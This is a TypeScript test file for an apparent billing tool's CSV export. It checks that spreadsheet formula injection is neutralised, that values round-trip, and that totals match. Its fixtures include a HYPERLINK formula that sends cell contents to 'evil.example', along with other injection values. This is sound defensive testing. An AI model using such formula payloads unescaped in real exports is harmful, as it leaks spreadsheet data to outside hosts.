import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { guardedCsvLine, unguarded } from '../../src/ground/csv-line.ts';
import { type ClaimedCase, openClaimedCase } from './claimed-case.ts';

let opened: ClaimedCase;

before(async () => {
  opened = await openClaimedCase({
    name: '19-export-formula-injection',
    calls: 'events.ndjson',
    fees: 'fees.csv',
    contract: 'contracts',
    period: '2026-06',
    number: 'TENANTS-2026-06-1',
  });
});

after(() => opened.close());

async function exported(form: string): Promise<string> {
  const path = join(tmpdir(), `uptally-export-${process.pid}.csv`);
  const run = await opened.run('export', '--format', form, '--period', '2026-06', '--out', path);
  assert.equal(run.exitCode, 0, run.stderr);
  return path;
}

test('No text of the export is run by a spreadsheet; amounts stay numbers.', async () => {
  const text = await readFile(await exported('focus'), 'utf8');
  const rows = parse(text, { columns: true }) as readonly Record<string, string>[];
  assert.deepEqual(
    rows.map((row) => [row.x_Tenant, row.BilledCost]),
    [
      ["'+1-800", '-10.10'],
      [`'=HYPERLINK("http://evil.example/?"&A1,"ok")`, '-10.00'],
      ["'@SUM(A1)", '-10.20'],
    ],
  );
});

test('The export counts as a memo: its tenants are those of the claim.', async () => {
  const counted = await opened.credit(await exported('focus'));
  assert.match(counted.stdout, /3 payments of USD 30\.30; in all USD 30\.30 of USD 30\.30/);
});

/** A value, and the cell that it becomes. */
const cells: readonly (readonly [value: string, cell: string])[] = [
  ['=1+1', "'=1+1"],
  ['+1-800', "'+1-800"],
  ['-cmd', "'-cmd"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', `"'\rx"`],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
  ['  =1', "'  =1"],
  ['"=1', `"'""=1"`],
  ["'=1", "''=1"],
  ["'\t", "''\t"],
  ["''\tx", "'''\tx"],
  ['\u200b=1', "'\u200b=1"],
  ['-5+A1', "'-5+A1"],
  ['-5', '-5'],
  ['-12.50', '-12.50'],
  ['', ''],
  ["'s", "'s"],
  ['a=b', 'a=b'],
  ['user@example.com', 'user@example.com'],
];

for (const [value, cell] of cells) {
  test(`${JSON.stringify(value)} is written as ${JSON.stringify(cell)}, and read back.`, () => {
    assert.equal(guardedCsvLine([value]), cell);
    const [[read = ''] = []] = parse(`${cell}\n`, { relax_column_count: true }) as string[][];
    if (value !== '') assert.equal(unguarded(read), value);
  });
}

test('Every text comes back as it was.', () => {
  const part = fc.oneof(
    fc.constantFrom('=', '+', '-', '@', "'", '"', ' ', '\t', '＝'),
    fc.string(),
  );
  const text = fc.array(part, { maxLength: 5 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(text, (value) => {
      const line = guardedCsvLine(['x', value]);
      const [[, read = ''] = []] = parse(line, { record_delimiter: '\0' }) as string[][];
      assert.equal(unguarded(read), value);
    }),
  );
});
